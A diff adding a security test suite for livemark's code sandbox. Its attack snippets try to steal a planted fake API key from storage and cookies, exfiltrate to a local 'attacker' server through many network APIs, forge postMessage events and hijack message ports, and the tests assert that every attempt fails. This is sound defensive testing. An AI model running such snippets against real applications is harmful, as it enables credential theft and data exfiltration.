@@ -1,0 +1,354 @@
+/**
+ * What model code can reach from the realm: nothing of the app, and nothing
+ * on the network. Every attack runs through the real path (the executor in
+ * the realm worker) and, where a document matters, from the sandbox iframe's
+ * document itself. Ground truth is the servers' own request logs: the app's
+ * static server and a second "attacker" server on another port.
+ */
+import { createHash } from "node:crypto";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { DIST_DIR, serveRecorder, type TestServer } from "./harness";
+import { startRealmTestContext, type RealmPage, type RealmTestContext } from "./fixtures/realmTestPage";
+
+const FAKE_KEY = "sk-test-LIVEMARK-FAKE-KEY-1234567890";
+/** What the app's own server may legitimately serve to the test page. */
+const APP_FILES = /\/(realm-test\.html|realm-test-assets\/.+\.js|generated\/realm\.js|sandbox\.html|favicon\.ico)$/;
+
+let context: RealmTestContext;
+let realm: RealmPage;
+let attacker: TestServer;
+let target: string;
+
+beforeAll(async () => {
+  attacker = await serveRecorder();
+  target = attacker.url;
+  context = await startRealmTestContext();
+  realm = await context.open();
+  // Control: the attacker server does record what reaches it (here, from the
+  // app's own page, which may talk to any server).
+  await realm.page.evaluate((url) => fetch(url + "control").then((response) => response.text()), target);
+  if (attacker.requests.length !== 1) throw new Error("the attacker server does not record requests");
+  attacker.clearRequests();
+  realm.requests.clear();
+  // The app's secrets, where the app keeps them.
+  await realm.page.evaluate((key) => {
+    localStorage.setItem("livemark.settings.v1", JSON.stringify({ provider: "openai", apiKey: key }));
+    sessionStorage.setItem("livemark.secret", key);
+    document.cookie = `livemark_key=${key}; path=/`;
+    return new Promise((done) => {
+      const request = indexedDB.open("livemark-secrets", 1);
+      request.onupgradeneeded = () => request.result.createObjectStore("keys").put(key, "apiKey");
+      request.onsuccess = () => done(request.result.close());
+    });
+  }, FAKE_KEY);
+});
+
+afterEach(async () => {
+  // Nothing may ever reach the attacker, and the app's server sees only the
+  // app. Give stray requests a moment to land before looking.
+  await new Promise((done) => setTimeout(done, 300));
+  expect(attacker.requests.map((request) => request.url)).toEqual([]);
+  expect(context.server.requests.map((request) => request.url).filter((url) => !APP_FILES.test(url))).toEqual([]);
+  expect(await realm.requests.answeredOutside(context.server.url, context.server.origin + "/favicon.ico")).toEqual([]);
+  realm.requests.clear();
+});
+
+afterAll(async () => {
+  await context?.close();
+  await attacker?.close();
+});
+
+/** Run attack code in the realm; it reports with `console.log(JSON.stringify(...))`. */
+async function attack(code: string): Promise<Record<string, string>> {
+  const result = await realm.run(code, 20_000);
+  const lines = realm.output(result).split("\n").filter((line) => line.startsWith("{"));
+  expect(lines.length, `no report from the attack; events: ${JSON.stringify(result.events)}`).toBe(1);
+  const report = JSON.parse(lines[0]) as Record<string, string>;
+  expect(JSON.stringify(result.events)).not.toContain(FAKE_KEY);
+  return report;
+}
+
+/** Realm code: `attempt(name, fn)` records "ok: …" or the error's name and message. */
+const ATTEMPT = `
+const report = {};
+const attempt = async (name, run) => {
+  try { report[name] = "ok: " + String(await run()).slice(0, 200); }
+  catch (error) { report[name] = "failed: " + (error && error.name) + ": " + (error && error.message); }
+};
+`;
+
+const failed = (report: Record<string, string>) => {
+  if (process.env.LIVEMARK_SHOW_ATTACKS) console.log(report);
+  for (const [name, outcome] of Object.entries(report)) expect(outcome, name).toMatch(/^failed: /);
+};
+
+describe("the realm cannot read the app's data", () => {
+  it("has no storage, cookies or documents of the app", async () => {
+    const report = await attack(`${ATTEMPT}
+      await attempt("indexedDB.open", () => new Promise((resolve, reject) => {
+        const request = indexedDB.open("livemark-secrets");
+        request.onsuccess = () => resolve("opened " + [...request.result.objectStoreNames]);
+        request.onerror = () => reject(request.error);
+      }));
+      await attempt("indexedDB.databases", async () => { throw new Error(JSON.stringify(await indexedDB.databases())) ; });
+      await attempt("localStorage", () => localStorage.getItem("livemark.settings.v1"));
+      await attempt("sessionStorage", () => sessionStorage.getItem("livemark.secret"));
+      await attempt("document.cookie", () => document.cookie);
+      await attempt("parent.document", () => parent.document.title);
+      await attempt("top.document", () => top.document.title);
+      await attempt("caches", () => caches.keys());
+      await attempt("cookieStore", () => cookieStore.getAll());
+      console.log(JSON.stringify(report));
+    `);
+    expect(Object.keys(report)).toHaveLength(9);
+    failed(report);
+    // The opaque origin is why: storage throws SecurityError rather than being empty.
+    expect(report["indexedDB.open"]).toMatch(/SecurityError/);
+  });
+
+  it("cannot see the API key anywhere it can look", async () => {
+    const report = await attack(`${ATTEMPT}
+      const seen = [self.name, String(self.location), navigator.userAgent, JSON.stringify(Object.getOwnPropertyNames(self))];
+      await attempt("key visible", () => { if (seen.join(" ").includes("sk-test")) return "visible"; throw new Error("not visible"); });
+      console.log(JSON.stringify(report));
+    `);
+    failed(report);
+  });
+
+  it("the sandbox document cannot read storage, cookies or the parent either", async () => {
+    const frame = realm.sandboxFrame();
+    const report = await frame.evaluate(async () => {
+      const result: Record<string, string> = {};
+      const attempt = async (name: string, run: () => unknown) => {
+        try {
+          result[name] = "ok: " + String(await run());
+        } catch (error) {
+          result[name] = `failed: ${(error as Error).name}: ${(error as Error).message}`;
+        }
+      };
+      await attempt("origin is opaque", () => {
+        if (self.origin === "null") throw new Error("opaque");
+        return self.origin;
+      });
+      await attempt("localStorage", () => localStorage.getItem("livemark.settings.v1"));
+      await attempt("sessionStorage", () => sessionStorage.getItem("livemark.secret"));
+      await attempt("document.cookie", () => document.cookie);
+      await attempt("indexedDB.open", () => indexedDB.open("livemark-secrets"));
+      await attempt("parent.document", () => parent.document.title);
+      await attempt("top.document", () => top!.document.title);
+      await attempt("parent.localStorage", () => (parent as Window).localStorage.length);
+      await attempt("top.location.href", () => top!.location.href);
+      return result;
+    });
+    failed(report);
+    expect(JSON.stringify(report)).not.toContain("sk-test");
+  });
+});
+
+describe("nothing leaves the realm", () => {
+  it("fetch, XHR, WebSocket, EventSource, importScripts and import() all fail", async () => {
+    const ws = target.replace("http:", "ws:");
+    const report = await attack(`${ATTEMPT}
+      const target = ${JSON.stringify(target)};
+      await attempt("fetch", () => fetch(target + "fetch").then((response) => response.text()));
+      await attempt("fetch no-cors", () => fetch(target + "no-cors", { mode: "no-cors" }).then(() => "sent"));
+      await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
+        const request = new XMLHttpRequest();
+        request.open("GET", target + "xhr");
+        request.onload = () => resolve(request.responseText);
+        request.onerror = () => reject(new Error("xhr error"));
+        request.send();
+      }));
+      await attempt("WebSocket", () => new Promise((resolve, reject) => {
+        const socket = new WebSocket(${JSON.stringify(ws)} + "ws");
+        socket.onopen = () => resolve("open");
+        socket.onerror = () => reject(new Error("ws error"));
+      }));
+      await attempt("EventSource", () => new Promise((resolve, reject) => {
+        const source = new EventSource(target + "sse");
+        source.onopen = () => resolve("open");
+        source.onerror = () => reject(new Error("sse error"));
+      }));
+      await attempt("importScripts", () => { importScripts(target + "import-scripts.js"); return self.__leaked; });
+      await attempt("import()", () => (0, eval)("import(" + JSON.stringify(target + "dynamic-import.js") + ")"));
+      await attempt("WebTransport", () => new WebTransport("https://127.0.0.1:1/wt").ready);
+      await attempt("font", () => new FontFace("x", "url(" + target + "font.woff)").load());
+      console.log(JSON.stringify(report));
+    `);
+    expect(Object.keys(report)).toHaveLength(9);
+    failed(report);
+    expect(report.fetch).toMatch(/CapabilityError: network capability not granted: GET http:\/\/127\.0\.0\.1/);
+  });
+
+  it("a nested worker with the platform's own network APIs is walled in too (CSP)", async () => {
+    const report = await attack(`${ATTEMPT}
+      const target = ${JSON.stringify(target)};
+      const nested = \`
+        const out = {};
+        const attempt = async (name, run) => {
+          try { out[name] = "ok: " + String(await run()); }
+          catch (error) { out[name] = "failed: " + (error && error.name) + ": " + (error && error.message); }
+        };
+        (async () => {
+          await attempt("fetch", () => fetch(T + "nested-fetch").then((r) => r.text()));
+          await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
+            const request = new XMLHttpRequest();
+            request.open("GET", T + "nested-xhr", false);
+            request.send();
+            resolve(request.responseText);
+          }));
+          await attempt("WebSocket", () => new Promise((resolve, reject) => {
+            const socket = new WebSocket(T.replace("http:", "ws:") + "nested-ws");
+            socket.onopen = () => resolve("open");
+            socket.onerror = () => reject(new Error("ws error"));
+          }));
+          await attempt("EventSource", () => new Promise((resolve, reject) => {
+            const source = new EventSource(T + "nested-sse");
+            source.onopen = () => resolve("open");
+            source.onerror = () => reject(new Error("sse error"));
+          }));
+          await attempt("importScripts", () => { importScripts(T + "nested.js"); return self.__leaked; });
+          await attempt("import()", () => import(T + "nested-import.js"));
+          await attempt("indexedDB", () => indexedDB.open("x"));
+          postMessage(out);
+        })();
+      \`;
+      await attempt("nested worker", () => new Promise((resolve, reject) => {
+        const url = URL.createObjectURL(new Blob(["const T = " + JSON.stringify(target) + ";" + nested], { type: "text/javascript" }));
+        const worker = new Worker(url);
+        worker.onmessage = (event) => { Object.assign(report, Object.fromEntries(Object.entries(event.data).map(([k, v]) => ["nested " + k, v]))); reject(new Error("reported")); };
+        worker.onerror = (event) => reject(new Error("worker error: " + event.message));
+        setTimeout(() => reject(new Error("no report")), 10000);
+      }));
+      console.log(JSON.stringify(report));
+    `);
+    expect(report["nested worker"]).toBe("failed: Error: reported");
+    expect(Object.keys(report)).toHaveLength(8);
+    failed(report);
+  });
+
+  it("the sandbox document cannot reach the network either", async () => {
+    const frame = realm.sandboxFrame();
+    const report = await frame.evaluate(async (target) => {
+      const result: Record<string, string> = {};
+      const attempt = async (name: string, run: () => unknown) => {
+        try {
+          result[name] = "ok: " + String(await run());
+        } catch (error) {
+          result[name] = `failed: ${(error as Error).name}: ${(error as Error).message}`;
+        }
+      };
+      const loads = (element: HTMLElement & { src?: string; href?: string }, attribute: "src" | "href", url: string) =>
+        new Promise((resolve, reject) => {
+          element.addEventListener("load", () => resolve("loaded"));
+          element.addEventListener("error", () => reject(new Error("blocked")));
+          element.setAttribute(attribute, url);
+          document.body.append(element);
+          setTimeout(() => reject(new Error("no load")), 1_000);
+        });
+      await attempt("fetch", () => fetch(target + "doc-fetch"));
+      await attempt("sendBeacon", () => {
+        if (navigator.sendBeacon(target + "doc-beacon", "x")) throw new Error("queued (must not reach the server)");
+        throw new Error("refused");
+      });
+      await attempt("img", () => loads(document.createElement("img"), "src", target + "doc-img.png"));
+      await attempt("script", () => loads(document.createElement("script"), "src", target + "doc-script.js"));
+      await attempt("stylesheet", () => {
+        const link = document.createElement("link");
+        link.rel = "stylesheet";
+        return loads(link, "href", target + "doc-style.css");
+      });
+      // A blocked frame still fires `load` (an error page): the servers' logs judge this one.
+      const frame = document.createElement("iframe");
+      frame.src = target + "doc-frame.html";
+      document.body.append(frame);
+      await attempt("worker from URL", () => new Promise((resolve, reject) => {
+        try {
+          const worker = new Worker(target + "doc-worker.js");
+          worker.onerror = () => reject(new Error("blocked"));
+          setTimeout(() => resolve("started?"), 1_000);
+        } catch (error) {
+          reject(error);
+        }
+      }));
+      await attempt("form post", () => {
+        const form = document.createElement("form");
+        form.action = target + "doc-form";
+        form.method = "post";
+        document.body.append(form);
+        form.submit();
+        throw new Error("submitted (must not reach the server)");
+      });
+      await attempt("window.open", () => {
+        const opened = window.open(target + "doc-popup");
+        if (opened) return "opened";
+        throw new Error("blocked");
+      });
+      await attempt("top navigation", () => {
+        top!.location.href = target + "doc-top";
+        return "navigated";
+      });
+      return result;
+    }, target);
+    await realm.page.waitForTimeout(500);
+    failed(report);
+  });
+});
+
+describe("the host trusts only its own port", () => {
+  it("ignores messages posted to the app window by the sandbox document", async () => {
+    const from = (await realm.events()).length;
+    await realm.sandboxFrame().evaluate(() => {
+      const forged = [
+        { type: "exec-event", event: { type: "console", block: 0, statement: 0, level: "log", text: "FORGED" } },
+        { type: "ready", version: 1, warmupMs: 0 },
+        { type: "livemark-sandbox-hello", version: 1 },
+        { type: "flushed", id: 1 },
+      ];
+      for (const message of forged) parent.postMessage(message, "*");
+      const channel = new MessageChannel();
+      parent.postMessage({ type: "livemark-sandbox-hello", version: 1 }, "*", [channel.port2]);
+      channel.port1.postMessage({ type: "exec-event", event: { type: "console", block: 0, statement: 0, level: "log", text: "FORGED" } });
+    });
+    const result = await realm.run("console.log('still fine')");
+    expect(realm.output(result)).toBe("still fine");
+    const events = await realm.events(from);
+    expect(JSON.stringify(events)).not.toContain("FORGED");
+    expect(events.filter((event) => event.type === "realm-reset" || event.type === "realm-error")).toEqual([]);
+    // Only one sandbox, started once: a second hello got no second bundle.
+    expect(context.server.requests.filter((request) => request.url.endsWith("/generated/realm.js"))).toHaveLength(1);
+  });
+
+  it("realm code cannot post to the app window, nor capture the port", async () => {
+    const report = await attack(`${ATTEMPT}
+      await attempt("parent.postMessage", () => parent.postMessage({ type: "exec-event" }, "*"));
+      await attempt("top.postMessage", () => top.postMessage({ type: "exec-event" }, "*"));
+      self.postMessage({ type: "exec-event", event: { type: "console", block: 0, statement: 0, level: "log", text: "FORGED" } });
+      const seen = [];
+      const original = MessagePort.prototype.postMessage;
+      MessagePort.prototype.postMessage = function (...args) { seen.push(this); return original.apply(this, args); };
+      console.log("probe");
+      await sleep(20);
+      MessagePort.prototype.postMessage = original;
+      await attempt("captured port", () => { if (seen.length) return seen.length + " ports"; throw new Error("none"); });
+      console.log(JSON.stringify(report));
+    `);
+    failed(report);
+  });
+});
+
+describe("sandbox.html", () => {
+  it("carries a strict CSP whose script hash matches its inline script", () => {
+    const html = readFileSync(join(DIST_DIR, "sandbox.html"), "utf8");
+    const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? "";
+    const script = /<script>([\s\S]*?)<\/script>/.exec(html)?.[1] ?? "";
+    const hash = createHash("sha256").update(script).digest("base64");
+    expect(csp).toContain(`'sha256-${hash}'`);
+    expect(csp).toMatch(/default-src 'none'/);
+    expect(csp).toMatch(/connect-src 'none'/);
+    expect(csp).toMatch(/worker-src blob:/);
+    expect(csp).not.toMatch(/'unsafe-inline'|\*|https?:|data:/);
+  });
+});
